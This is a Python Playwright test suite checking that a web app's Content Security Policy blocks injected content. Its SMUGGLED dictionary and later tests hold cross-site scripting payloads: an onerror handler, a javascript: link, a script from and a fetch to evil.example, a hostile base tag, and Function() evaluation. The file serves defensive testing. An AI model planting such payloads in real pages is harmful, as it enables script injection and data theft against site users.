"""The content policy in a real browser: no page breaks it, and what somebody smuggles into one does not run."""

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.conftest import OpenPage, Server

WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => window.violations.push(
    `${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
"""
READY = {
    "/": "[data-slot='layers'] *",
    "/wall": "[data-county]",
    "/shelters": "[data-slot='shelter_totals']",
    "/grids": "[data-slot='grids-community'] button",
    "/health": "[data-check='database']",
}


def watched(open_page: OpenPage, path: str, **options: Any) -> Page:
    """A page that noted from its first moment what its policy refused; it is loaded twice, the second time watched."""
    page = open_page(path, **options)
    page.add_init_script(WATCH)
    page.reload()
    page.wait_for_selector("#page")
    return page


@pytest.mark.parametrize("path", READY)
@pytest.mark.parametrize("language", ["zh_CN", "en"])
def test_no_page_breaks_its_policy(open_page: OpenPage, path: str, language: str) -> None:
    page = watched(open_page, f"{path}?lang={language}")
    page.wait_for_selector(READY[path], state="attached")
    page.wait_for_load_state("load")
    assert page.evaluate("violations") == []


def test_the_documentation_of_the_api(open_page: OpenPage, server: Server) -> None:
    page = open_page("/health")
    page.add_init_script(WATCH)
    page.goto(f"{server.url}/api/docs")
    page.wait_for_selector(".opblock")
    page.click(".opblock >> nth=0")
    page.wait_for_selector(".opblock-body")
    assert page.evaluate("violations") == []


def test_style_sheets_of_libraries_hold(open_page: OpenPage) -> None:
    """Leaflet's own sheet is made in the browser: without it the tiles and panes would lie in the page's flow."""
    page = watched(open_page, "/")
    page.wait_for_selector(".leaflet-pane", state="attached")
    assert page.eval_on_selector(".leaflet-pane", "pane => getComputedStyle(pane).position") == "absolute"


SMUGGLED = {
    "script": "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
    "link": "document.body.insertAdjacentHTML('beforeend', '<a id=bad href=\"javascript:window.ran = 1\">x</a>');"
    "document.getElementById('bad').click()",
    "elsewhere": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
    "document.body.append(s)",
    "base": "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')",
    "evaluated": "const s = document.createElement('script'); s.type = 'module';"
    "s.textContent = 'window.ran = 1'; document.body.append(s)",
}


@pytest.fixture
def attacked(browser: Browser, server: Server) -> Iterator[Page]:
    """The wall, watched, in a browser of which nobody minds that it complains."""
    context = browser.new_context(extra_http_headers=server.bearer())
    page = context.new_page()
    page.add_init_script(WATCH)
    page.goto(f"{server.url}/wall")
    page.wait_for_selector("#page")
    yield page
    context.close()


@pytest.mark.parametrize("script", SMUGGLED.values(), ids=SMUGGLED)
def test_what_is_smuggled_in_does_not_run(attacked: Page, script: str) -> None:
    attacked.evaluate(script)
    attacked.wait_for_function("violations.length > 0")
    assert attacked.evaluate("window.ran") is None
    assert attacked.evaluate("document.baseURI").startswith("http://127.0.0.1")


def test_a_frame_of_its_own_writing_runs_nothing_either(attacked: Page) -> None:
    """It inherits the page's policy, and tells of what it refused in its own document."""
    frame = "Object.assign(document.createElement('iframe'), {srcdoc: '<b>x</b><script>parent.ran = 1</script>'})"
    attacked.evaluate(f"document.body.append({frame})")
    attacked.frames[1].wait_for_selector("b", state="attached")
    attacked.frames[1].wait_for_load_state()
    assert attacked.evaluate("window.ran") is None


def test_nothing_is_evaluated_and_nothing_sent_elsewhere(attacked: Page) -> None:
    later = "done => setTimeout(() => { try { done(Function('return 1')()) } catch (e) { done(e.name) } }, 0)"
    assert attacked.evaluate(f"() => new Promise({later})") == "EvalError"
    sent = "() => fetch('https://evil.example/?x').then(() => 'sent', () => 'refused')"
    assert attacked.evaluate(sent) == "refused"
    assert any("connect-src" in one for one in attacked.evaluate("violations"))


def test_no_other_site_shows_it_in_a_frame(attacked: Page, server: Server) -> None:
    attacked.goto("about:blank")
    frame = f"Object.assign(document.createElement('iframe'), {{src: '{server.url}/wall'}})"
    attacked.evaluate(f"document.body.append({frame})")
    shown = attacked.frames[1]
    shown.wait_for_load_state()
    assert shown.locator("#page").count() == 0
